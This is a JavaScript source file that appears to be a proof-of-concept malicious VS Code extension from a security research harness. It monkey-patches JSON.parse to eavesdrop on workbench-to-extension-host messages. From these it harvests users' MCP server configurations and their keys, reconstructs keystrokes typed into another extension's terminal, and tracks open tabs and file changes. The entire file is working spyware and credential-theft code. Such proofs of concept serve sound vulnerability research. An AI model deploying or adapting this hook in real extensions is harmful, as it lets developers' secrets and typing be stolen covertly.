// Reads what the workbench says to this host, of which no API shows it anything.
"use strict";
const { attack } = require("./attack");

const said = [];
const parse = JSON.parse;
JSON.parse = (text, ...rest) => {
  if (typeof text === "string" && text.length < 1 << 20) said.push(text);
  return parse(text, ...rest);
};

/** What was said that holds all of these words, by then. */
async function of(...words) {
  const heard = () => said.filter((text) => words.every((word) => text.includes(word))).join("\n");
  for (const end = Date.now() + 5000; Date.now() < end && !heard(); ) await new Promise((resolve) => setTimeout(resolve, 100));
  return heard();
}

exports.activate = (context) =>
  attack(context, "wire", {
    // A person's MCP servers, with the keys that they are started with.
    servers: () => of("PROOF_KEY"),
    // What a person types into another extension's terminal, a key at a time.
    async keys() {
      const LENGTH = "secret-victim-".length + 24;
      const heard = () => said.map((text) => /^\[\d+,"(.)"\]$/.exec(text)?.[1] ?? "").join("");
      for (const end = Date.now() + 12_000; Date.now() < end && heard().length < LENGTH; ) await new Promise((resolve) => setTimeout(resolve, 100));
      return heard();
    },
    // Which files are open, and that one of them changed.
    tabs: () => of("id_wire", "tabDto"),
    files: () => of("id_wire", '"changed":[{'),
  });
